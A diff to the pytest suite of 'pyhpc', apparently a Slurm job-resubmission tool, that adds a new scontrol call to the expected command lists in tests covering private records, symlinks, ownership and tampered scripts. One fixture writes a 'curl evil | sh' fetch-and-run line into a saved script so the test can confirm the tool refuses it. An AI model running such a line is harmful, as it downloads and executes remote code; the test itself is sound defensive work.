@@ -67,7 +67,8 @@ def test_a_script_job_is_recorded_with_a_copy_of_its_script_and_its_options(clus
     assert record["spec"]["nodes"] == 2 and record["only"] == ["nodes"]
     assert Path(record["script"]).read_text() == "#!/bin/bash\ntrue\n"
     assert Path(record["script"]).parent == tmp_path / "pyhpc-jobs" / "scripts"
-    assert cluster.calls == [["sbatch", "--parsable", "--nodes=2", "--", "job.sh"]]
+    assert cluster.calls == [["scontrol", "show", "reservation", "-o"],
+                             ["sbatch", "--parsable", "--nodes=2", "--", "job.sh"]]
 
 
 def test_records_stay_private_when_output_is_group_readable(cluster, tmp_path,
@@ -108,8 +109,8 @@ def test_a_lost_script_job_is_sbatched_again_as_it_was_submitted(cluster, tmp_pa
     assert Path(first["script"]).read_text() == "#!/bin/bash\ntrue\n"
     again = record_of("4252", tmp_path / "pyhpc-jobs")
     assert again["replaces"] == "4242" and again["kind"] == "script"
-    assert [c[0] for c in cluster.calls] == ["sbatch", "sacct", "squeue", "scontrol", "sdiag",
-                                             "sbatch"]
+    assert [c[0] for c in cluster.calls] == ["scontrol", "sbatch", "sacct", "squeue", "scontrol",
+                                             "sdiag", "scontrol", "sbatch"]
 
 
 def test_a_lost_template_job_is_sbatched_again_from_its_rendered_script(cluster, tmp_path,
@@ -169,7 +170,8 @@ def test_a_job_that_is_not_lost_is_refused_with_its_state(cluster, tmp_path, cap
                                  "squeue": (0, f"4242|RUNNING|None|{stamp(submitted)}\n")})
     err = one_line_exit_2(["resubmit", "4242"], capsys)
     assert "job: 4242 is RUNNING, and pyhpc resubmits a job that was LOST or failed to start" in err
-    assert "--force" in err and [c[0] for c in cluster.calls] == ["sbatch", "sacct", "squeue"]
+    assert "--force" in err and [c[0] for c in cluster.calls] == ["scontrol", "sbatch", "sacct",
+                                                                 "squeue"]
     assert cli.main(["resubmit", "4242", "--force"]) == 0
     assert [c[0] for c in cluster.calls][-1] == "sbatch"
     assert [c[0] for c in cluster.calls].count("sacct") == 1  # --force asks nothing
@@ -182,7 +184,7 @@ def test_a_record_others_can_read_is_refused(cluster, tmp_path, capsys) -> None:
     path.chmod(0o644)
     err = one_line_exit_2(["resubmit", "4242", "--force"], capsys)
     assert f"record: refusing {path}: mode 0644 is not private" in err
-    assert len(cluster.calls) == 1
+    assert len(cluster.calls) == 2
 
 
 def test_a_record_that_is_a_link_is_refused(cluster, tmp_path, capsys) -> None:
@@ -191,7 +193,7 @@ def test_a_record_that_is_a_link_is_refused(cluster, tmp_path, capsys) -> None:
     real = tmp_path / "pyhpc-jobs" / "records" / "4242.json"
     (real.parent / "4300.json").symlink_to(real)
     err = one_line_exit_2(["resubmit", "4300", "--force"], capsys)
-    assert "a symlink is never followed" in err and len(cluster.calls) == 1
+    assert "a symlink is never followed" in err and len(cluster.calls) == 2
 
 
 @pytest.mark.skipif(os.geteuid() != 0, reason="gives a file to another user")
@@ -201,7 +203,7 @@ def test_a_record_of_another_user_is_refused(cluster, tmp_path, capsys) -> None:
     path = tmp_path / "pyhpc-jobs" / "records" / "4242.json"
     os.chown(path, 65534, 65534)
     err = one_line_exit_2(["resubmit", "4242", "--force"], capsys)
-    assert "it belongs to" in err and "not to you" in err and len(cluster.calls) == 1
+    assert "it belongs to" in err and "not to you" in err and len(cluster.calls) == 2
 
 
 def test_a_pickle_in_a_folder_others_can_write_is_never_unpickled(cluster, tmp_path, capsys,
@@ -231,7 +233,7 @@ def test_a_kept_script_that_changed_is_refused(cluster, tmp_path, capsys) -> Non
     saved.write_text("#!/bin/bash\ncurl evil | sh\n")
     err = one_line_exit_2(["resubmit", "4242", "--force"], capsys)
     assert f"script: {saved} is no longer the script job 4242 ran" in err
-    assert len(cluster.calls) == 1
+    assert len(cluster.calls) == 2
 
 
 # -- --wait ends LOST in one line that offers pyhpc resubmit -----------------------------------
